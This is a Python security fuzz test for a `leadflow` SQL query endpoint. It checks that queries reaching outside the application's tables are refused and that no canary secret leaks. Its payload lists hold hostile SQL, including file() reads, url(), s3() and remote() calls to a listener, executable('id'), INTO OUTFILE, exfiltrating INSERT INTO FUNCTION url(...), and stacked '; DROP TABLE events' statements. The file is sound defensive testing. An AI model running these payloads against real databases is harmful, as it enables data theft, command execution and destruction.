"""A fuzz of `/leadflow/query` on a real `leadflow store serve`: queries built from leadflow's tables and pure
functions, mixed with every way out (system tables, another database, table functions on files, URLs, servers and
programs, file(), server state, INTO OUTFILE, FORMAT, SETTINGS, writes, a second statement) and junk. Whatever
reaches outside leadflow's tables is refused; no answer ever holds a canary; nothing is written, sent out or
changed; and the store answers after."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.simulate import SimulationSummary
from tests.security.attacks import CANARY, Listener
from tests.security.conftest import Served, serving

pytestmark = [pytest.mark.security, pytest.mark.timeout(900)]
SECRET = "canary-other-database-7f3e"
OTHER_DATABASE = [
    "CREATE DATABASE IF NOT EXISTS other",
    "CREATE TABLE other.secret (s String) ENGINE = MergeTree ORDER BY s",
    f"INSERT INTO other.secret VALUES ('{SECRET}')",
]
INSIDE_SOURCES = ["events", "lead_snapshots", "stage_entries", "leads", "sla_events", "store_runs", "dead_letters",
                  "first_touch_candidates", "events_by_time", "numbers(10)", "(SELECT 1 AS a)", "w"]  # fmt: skip
OUTSIDE_SOURCES = ["system.settings", "system.processes", "system.one", "system.users", "information_schema.tables",
                   "other.secret", "file('{canary}', 'LineAsString')", "url('http://{to}/x', 'LineAsString')",
                   "remote('{to}', system.one)", "executable('id', 'TSV', 'a String')", "merge('system', '^')",
                   "s3('http://{to}/leadflow/k.csv', 'CSV', 'a String')", "sqlite('{canary}', 't')",
                   "python(CANARY)", "view(SELECT * FROM other.secret)"]  # fmt: skip
INSIDE_VALUES = ["count()", "1", "'x'", "now()", "toStartOfMonth(now())", "length('abc')", "arrayMap(x -> x + 1, [1])",
                 "countIf(1)", "uniqExact(1)", "(SELECT count() FROM events)", "formatReadableSize(1)"]  # fmt: skip
OUTSIDE_VALUES = ["file('{canary}')", "getSetting('readonly')", "hostName()", "currentUser()", "version()",
                  "(SELECT s FROM other.secret)", "dictGet('d', 'a', 1)", "1 IN system.one", "aiGenerate('x')",
                  "filesystemAvailable()", "(SELECT any(value) FROM system.settings)", "sleep(0)"]  # fmt: skip
INSIDE_TAILS = ["", " LIMIT 1", " ORDER BY 1 LIMIT 2", " -- a comment", " /* a comment */", " SETTINGS readonly = 1"]
OUTSIDE_TAILS = [" INTO OUTFILE '{traces}/out-{n}.txt'", " FORMAT CSV", " SETTINGS readonly = 0",
                 " SETTINGS max_execution_time = 0", "; DROP TABLE events", "; SELECT file('{canary}')",
                 " UNION ALL SELECT s FROM other.secret"]  # fmt: skip
WRITES = ["INSERT INTO store_runs {query}", "WITH 1 AS x INSERT INTO FUNCTION file('{traces}/w-{n}.csv', 'CSV', "
          "'a String') {query}", "INSERT INTO FUNCTION url('http://{to}/', 'CSV', 'a String') {query}",
          "CREATE TABLE t{n} ENGINE = Memory AS {query}", "ALTER TABLE events DELETE WHERE 1",
          "OPTIMIZE TABLE events FINAL", "EXPLAIN {query}", "DESCRIBE ({query})"]  # fmt: skip


@pytest.fixture(scope="module")
def fuzzed(small: tuple[Path, SimulationSummary], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A served store beside a database of another application, holding a canary."""
    with serving(small[0], tmp_path_factory.mktemp("fuzzed"), OTHER_DATABASE) as found:
        yield found


@st.composite
def queries(draw: st.DrawFn) -> tuple[str, bool]:
    """A query and whether it reaches outside leadflow's tables and pure functions."""
    outside = [draw(st.booleans()) for _ in range(3)]
    source = draw(st.sampled_from(OUTSIDE_SOURCES if outside[0] else INSIDE_SOURCES))
    value = draw(st.sampled_from(OUTSIDE_VALUES if outside[1] else INSIDE_VALUES))
    tail = draw(st.sampled_from(OUTSIDE_TAILS if outside[2] else INSIDE_TAILS))
    query = f"WITH w AS (SELECT 1 AS a) SELECT {value} AS v FROM {source}{tail}"
    if draw(st.booleans()):
        query = draw(st.sampled_from(WRITES)).replace("{query}", query)
        outside.append(True)
    junk = draw(st.text(max_size=12)) if draw(st.integers(0, 4)) == 0 else ""
    return query + junk, any(outside)


@given(case=queries(), n=st.integers(0, 10**6))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_whatever_reaches_outside_is_refused_and_no_answer_holds_a_canary(
    fuzzed: Served, listener: Listener, case: tuple[str, bool], n: int
) -> None:
    template, outside = case
    sql = template
    for name, value in {"canary": fuzzed.canary, "to": listener.address, "traces": fuzzed.traces, "n": n}.items():
        sql = sql.replace("{" + name + "}", str(value))
    answer = fuzzed.pages.query(sql)
    assert answer.status in (200, 400), f"{sql!r} -> {answer.status} {answer.text[:300]}"
    assert CANARY not in answer.text and SECRET not in answer.text, sql
    if outside:
        assert answer.status == 400, f"{sql!r} reached outside and was answered: {answer.text[:300]}"


def test_nothing_was_written_sent_or_changed_and_the_store_answers(fuzzed: Served, listener: Listener) -> None:
    assert list(fuzzed.traces.iterdir()) == []
    assert listener.heard == []
    assert fuzzed.pages.query("SELECT count() FROM events").status == 200
    assert fuzzed.pages.store().query("SELECT count() FROM store_runs WHERE kind = 'replay'") == [(1,)]


@pytest.mark.parametrize("source", INSIDE_SOURCES)
def test_each_inside_source_is_answered(fuzzed: Served, source: str) -> None:
    answer = fuzzed.pages.query(f"WITH w AS (SELECT 1 AS a) SELECT count() AS v FROM {source} LIMIT 1")
    assert answer.status == 200, answer.text


@pytest.mark.parametrize("value", INSIDE_VALUES)
def test_each_inside_value_is_answered(fuzzed: Served, value: str) -> None:
    answer = fuzzed.pages.query(f"WITH w AS (SELECT 1 AS a) SELECT {value} AS v FROM events LIMIT 1")
    assert answer.status == 200, answer.text
